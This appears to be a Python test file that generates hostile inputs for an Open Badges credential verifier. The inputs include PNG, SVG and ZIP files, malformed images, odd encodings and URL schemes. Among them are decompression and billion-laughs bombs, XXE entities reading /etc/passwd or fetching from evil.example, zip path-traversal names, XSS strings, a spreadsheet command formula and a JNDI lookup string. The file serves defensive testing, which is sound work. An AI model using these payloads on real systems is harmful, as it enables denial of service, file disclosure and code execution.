"""Pictures, archives and encodings around a credential."""

import gzip
import io
import random
import struct
import zipfile
import zlib

from tests.hostile.case import ANY, NEVER_VALID, REFUSED, Attack, cases
from tests.hostile.forge import document, sealed, token, wire

MIB = 1024 * 1024
SIGNATURE = b"\x89PNG\r\n\x1a\n"
SOME = ANY


def attacks(seed: random.Random) -> list[Attack]:
    """Every attack on carriers."""
    return [*_png(seed), *_svg(), *_zip(), *_pictures(), *_encodings(seed), *_urls()]


def chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    """One chunk of a PNG."""
    check = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)


def header(width: int = 1, height: int = 1) -> bytes:
    """The header chunk of a grey picture."""
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))


def png(*middle: bytes, first: bytes | None = None) -> bytes:
    """A picture of one pixel with more chunks."""
    return (
        SIGNATURE
        + (first or header())
        + b"".join(middle)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


def itxt(text: bytes, keyword: bytes = b"openbadgecredential", packed: int = 0, method: int = 0) -> bytes:
    """The text chunk of a baked badge."""
    return chunk(b"iTXt", keyword + bytes([0, packed, method]) + b"\0\0" + text)


TURNED_DOWN = (
    "compressed bomb",
    "zTXt bomb",
    "cut in the text",
    "signature only",
    "text empty",
    "text an address",
    "text a page",
    "text not UTF-8",
    "one bit",
    "check sum wrong",
    "length beyond the end",
)


def _png(seed: random.Random) -> list[Attack]:
    good = token(document())
    plain = itxt(good)
    whole = png(plain)
    bomb = zlib.compressobj(9)
    packed = b"".join([bomb.compress(bytes(MIB)) for _ in range(256)]) + bomb.flush()
    named = _pngs(good, plain, whole, packed)
    flipped = bytearray(whole)
    flipped[seed.randrange(70, len(whole) - 80)] ^= 4
    named["one bit"] = bytes(flipped)
    strict = {name: named.pop(name) for name in TURNED_DOWN}
    never = {name: named.pop(name) for name in ("tampered token", "json tampered")}
    return [
        *cases("png", SOME, named, file="case.png"),
        *cases("png", REFUSED, strict, file="case.png"),
        *cases("png", NEVER_VALID, never, file="case.png"),
    ]


def _pngs(good: bytes, plain: bytes, whole: bytes, packed: bytes) -> dict[str, bytes]:
    return {
        "check sum wrong": png(chunk(b"iTXt", plain[8:-4], 1)),
        "two chunks": png(plain, itxt(token(document(name="Other")))),
        "the same chunk twice": png(plain, plain),
        "compressed": png(itxt(zlib.compress(good), packed=1)),
        "compressed bomb": png(itxt(packed, packed=1)),
        "zTXt bomb": png(chunk(b"zTXt", b"openbadgecredential\0\0" + packed)),
        "zTXt": png(chunk(b"zTXt", b"openbadgecredential\0\0" + zlib.compress(good))),
        "tEXt": png(chunk(b"tEXt", b"openbadgecredential\0" + good)),
        "unknown compression": png(itxt(good, packed=1, method=7)),
        "not compressed though said": png(itxt(good, packed=1)),
        "65535 squared": png(plain, first=header(65535, 65535)),
        "2^31 wide": png(plain, first=header(2**31 - 1, 2**31 - 1)),
        "0 wide": png(plain, first=header(0, 0)),
        "no header": SIGNATURE + plain,
        "cut": whole[:-20],
        "cut in the text": whole[:60],
        "length beyond the end": SIGNATURE + header() + struct.pack(">I", 2**31) + b"iTXt" + good,
        "signature only": SIGNATURE,
        "text behind the end": png() + plain,
        "keyword empty": png(itxt(good, b"")),
        "keyword upper case": png(itxt(good, b"OpenBadgeCredential")),
        "keyword of Open Badges 2 with a token": png(itxt(good, b"openbadges")),
        "text empty": png(itxt(b"")),
        "text an address": png(itxt(b"https://evil.example/badge")),
        "text a page": png(itxt(b"<script>alert(1)</script>")),
        "text not UTF-8": png(itxt(b"\xff\xfe")),
        "100,000 chunks": png(*[chunk(b"tEXt", b"a\0b")] * 100_000),
        "tampered token": png(itxt(good[:-8])),
        "no language field": png(chunk(b"iTXt", b"openbadgecredential\0\0\0")),
        "json tampered": png(itxt(wire({**sealed(document()), "name": "Other"}))),
        "animated": png(plain, chunk(b"acTL", struct.pack(">II", 2**31, 0))),
        "profile bomb": png(plain, chunk(b"iCCP", b"x\0\0" + packed)),
    }


OPEN_BADGES = "https://purl.imsglobal.org/ob/v3p0"
LAUGHS = (
    '<!DOCTYPE svg [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};">'
        if n > 1
        else '<!ENTITY a1 "&a;&a;">'
        for n in range(1, 12)
    )
    + "]>"
)


def svg(inside: str, before: str = "", attributes: str = "") -> bytes:
    """A drawing with this inside it."""
    names = f'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OPEN_BADGES}"'
    return f"{before}<svg {names} {attributes}>{inside}</svg>".encode()


def _svg() -> list[Attack]:
    good = token(document()).decode()
    credential = f'<openbadges:credential verify="{good}"/>'
    refused = {
        "entity": svg(credential, '<!DOCTYPE svg [<!ENTITY x "y">]>'),
        "billion laughs": svg("<text>&a11;</text>" + credential, LAUGHS),
        "external entity": svg(credential + "&x;", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "parameter entity": svg(credential, '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x">%x;]>'),
        "not closed": svg(credential)[:-6],
        "two roots": svg(credential) * 2,
        "no credential": svg("<text>x</text>"),
        "another namespace": svg(credential).replace(OPEN_BADGES.encode(), b"https://evil.example/ns"),
        "20,000 deep": svg("<g>" * 20_000 + "</g>" * 20_000),
        "not XML": b"<svg <<<",
        "verify empty": svg('<openbadges:credential verify=""/>'),
        "verify an address": svg('<openbadges:credential verify="https://evil.example/"/>'),
        "text a page": svg("<openbadges:credential><![CDATA[<script>x</script>]]></openbadges:credential>"),
        "attribute twice": svg(f'<openbadges:credential verify="{good}" verify="{good}"/>'),
        "odd encoding": b'<?xml version="1.0" encoding="UTF-7"?>' + svg(credential),
        "unknown encoding": b'<?xml version="1.0" encoding="x-none"?>' + svg(credential),
    }
    return [*cases("svg", REFUSED, refused, file="case.svg"), *_odd_svg(credential)]


def _odd_svg(credential: str) -> list[Attack]:
    good = token(document()).decode()
    told = {
        "external subset, never read": svg(credential, '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">'),
        "script": svg(credential + "<script>alert(1)</script>"),
        "handler": svg(credential, attributes='onload="alert(1)"'),
        "external picture": svg(
            credential + '<image href="https://evil.example/x.png"/><use href="file:///etc/passwd#x"/>'
        ),
        "style by address": svg(credential, '<?xml-stylesheet href="https://evil.example/x.css"?>'),
        "use 30 levels": svg(
            credential + "".join(f'<g id="u{n}"><use href="#u{n + 1}"/><use href="#u{n + 1}"/></g>' for n in range(30))
        ),
        "100,000 attributes": svg(credential, attributes=" ".join(f'a{n}="x"' for n in range(100_000))),
        "two credentials": svg(credential + credential),
        "both forms": svg(f'<openbadges:credential verify="{good}"><![CDATA[{{}}]]></openbadges:credential>'),
        "credential deep inside": svg(f"<g><g>{credential}</g></g>"),
        "compressed": gzip.compress(svg(credential)),
        "compressed bomb": gzip.compress(bytes(256 * MIB)),
        "1 MB of comments": svg("<!--" + "x" * MIB + "-->" + credential),
    }
    return cases("svg", SOME, told, file="case.svg")


def archive(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of these entries."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as made:
        for name, data in entries:
            made.writestr(zipfile.ZipInfo(name), data, method)
    return buffer.getvalue()


def _zip() -> list[Attack]:
    good, bare = wire(sealed(document())), token(document())

    nested = archive([("badge.json", good)])
    encrypted = bytearray(nested)
    encrypted[6] |= 1
    encrypted[encrypted.rindex(b"PK\x01\x02") + 8] |= 1
    lying = bytearray(archive([("a.json", good)]))
    struct.pack_into("<I", lying, lying.rindex(b"PK\x01\x02") + 24, 10)
    refused = {
        f"name {name!r}": archive([(name, good)])
        for name in (
            "../a.json",
            "/etc/a.json",
            "..\\a.json",
            "C:\\a.json",
            "a/../../b.json",
            "\\\\host\\a.json",
            "a:b.json",
        )
    }
    refused |= {
        "bomb of 69 MiB": archive([("a.json", bytes(64 * MIB)), *((f"b{n}.json", bytes(MIB)) for n in range(5))]),
        "ratio": archive([("a.json", bytes(15 * MIB))]),
        "10,000 entries": archive([(f"{n}.json", b"{}") for n in range(10_000)]),
        "encrypted": bytes(encrypted),
        "size that lies": bytes(lying),
        "cut": nested[:-10],
        "empty": archive([]),
        "only folders": archive([("a/", b"")]),
        "signature only": b"PK\x03\x04",
        "end only": b"PK\x05\x06" + bytes(18),
        "archive in an archive": archive([("a.zip", nested)]),
        "101 credentials": archive([(f"{n}.jwt", bare) for n in range(101)], zipfile.ZIP_STORED),
        "bzip2": archive([("a.json", good)], zipfile.ZIP_BZIP2),
        "lzma": archive([("a.json", good)], zipfile.ZIP_LZMA),
        "an export's list of millions": archive([("manifest.json", b'{"x":[' + b"[]," * 9_000_000 + b"0]}")]),
        "junk": archive([("a.bin", bytes(range(256)))]),
    }
    return [*cases("zip", REFUSED, refused, file="case.zip"), *_odd_zip(good, nested)]


def _odd_zip(good: bytes, nested: bytes) -> list[Attack]:
    told = {
        "junk in front": b"junk" * 100 + nested,
        "a picture in front": png() + nested,
        "good and bad": archive([("a.json", good), ("b.json", good[:-4])]),
        "many small": archive([(f"{n}.json", good) for n in range(20)]),
        "name of 60,000 letters": archive([("n" * 60_000, good)]),
        "name with escapes": archive([("\x1b[2J\u202e.json", good)]),
    }
    return cases("zip", SOME, told, file="case.zip")


def _pictures() -> list[Attack]:
    big = struct.pack("<II", 65_000, 65_000)
    raw = {
        "GIF, 65535 squared": b"GIF89a\xff\xff\xff\xff\x80\0\0"
        + bytes(6)
        + b",\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;",
        "GIF, no end": b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff",
        "GIF, signature": b"GIF87a",
        "BMP, huge": b"BM"
        + bytes(8)
        + struct.pack("<I", 54)
        + struct.pack("<I", 40)
        + big
        + struct.pack("<HHI", 1, 24, 0)
        + bytes(24),
        "BMP, negative": b"BM" + bytes(8) + struct.pack("<II", 54, 40) + struct.pack("<ii", -1, -1) + bytes(32),
        "BMP, signature": b"BM",
        "WebP, cut": b"RIFF\x1a\0\0\0WEBPVP8 ",
        "WebP, huge": b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff",
        "JPEG, signature": b"\xff\xd8\xff",
        "JPEG, huge": b"\xff\xd8\xff\xc0\0\x0b\x08\xff\xff\xff\xff\x01\x01\x11\0\xff\xd9",
        "TIFF": b"II*\0\x08\0\0\0",
        "PDF": b"%PDF-1.7\n%%EOF",
        "PNG, 60000 squared": png(first=header(60_000, 60_000)),
        "ICO": b"\0\0\x01\0\x01\0",
        "PSD": b"8BPS\0\x01",
        "EPS": b"%!PS-Adobe-3.0 EPSF",
        "PNG, 16 MP of one colour": SIGNATURE
        + header(8000, 8000)
        + chunk(b"IDAT", zlib.compress(bytes(8001 * 8000), 9))
        + chunk(b"IEND", b""),
    }
    return cases("picture", REFUSED, raw, file="case.png")


def _encodings(seed: random.Random) -> list[Attack]:
    text = wire(sealed(document())).decode()
    refused = {
        f"{name}": text.encode(name)
        for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be")
    }
    refused |= {
        "overlong": text.encode().replace(b'"name"', b'"\xc0\xaeame"', 1),
        "Latin-1": text.replace("Python", "Pythön").encode("latin-1"),
        "zero bytes between": b"\0".join(bytes([one]) for one in text.encode()[:5000]),
        "cut in a letter": text.encode().replace(b"Python", b"Pyth\xc3", 1),
        "surrogate in UTF-8": text.encode().replace(b"Python", b"\xed\xa0\x80", 1),
        "beyond the last": text.encode().replace(b"Python", b"\xf4\x90\x80\x80", 1),
        "UTF-7": b"+AHs-" + text.encode("utf-7")[1:],
        "EBCDIC": text.encode("cp500", "replace"),
        "random": seed.randbytes(5000),
        "zeros": bytes(5000),
        "4 MiB and one": b" " * (4 * MIB + 1 - len(text)) + text.encode(),
        "one byte": b"{",
        "blank": b" \n\t",
        "a compressed file": gzip.compress(text.encode()),
        "form feed in front": b"\f" + text.encode(),
        "no-break space in front": "\u00a0".encode() + text.encode(),
        "control behind": text.encode() + b"\0",
        "two byte order marks": b"\xef\xbb\xbf" * 2 + text.encode(),
    }
    return cases("encoding", REFUSED, refused)


def _urls() -> list[Attack]:
    refused = {
        one[:40]: one.encode()
        for one in (
            "https://evil.example/badge.json",
            "http://127.0.0.1/x",
            "file:///etc/passwd",
            "javascript:alert(1)",
            "data:,x",
            "data:text/html,<b>x</b>",
            "data:application/json;base64,!!!!",
            "data:application/json," + "%7B" * 3000,
            "openid-credential-offer://?credential_offer_uri=https://evil.example",
            "openid4vp://?request_uri=file:///etc/passwd",
            "mdoc:owBj",
            "ftp://a.example/x",
            "\\\\host\\share\\x",
            "urn:x:y",
            "mailto:a@b.example",
            "HC1:6BF",
            "otpauth://totp/x",
            "BEGIN:VCARD",
            "WIFI:S:x;;",
            "data:application/vc+jwt,",
            "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----",
            "<html><body onload=alert(1)>",
            "<?xml version='1.0'?><x/>",
            "#!/bin/sh\nid",
            "=cmd|' /C calc'!A0",
            "../../etc/passwd",
            "%00",
            "${jndi:ldap://evil.example/x}",
            "{{7*7}}",
        )
    }
    return cases("url-scheme", REFUSED, refused, file="case.txt")
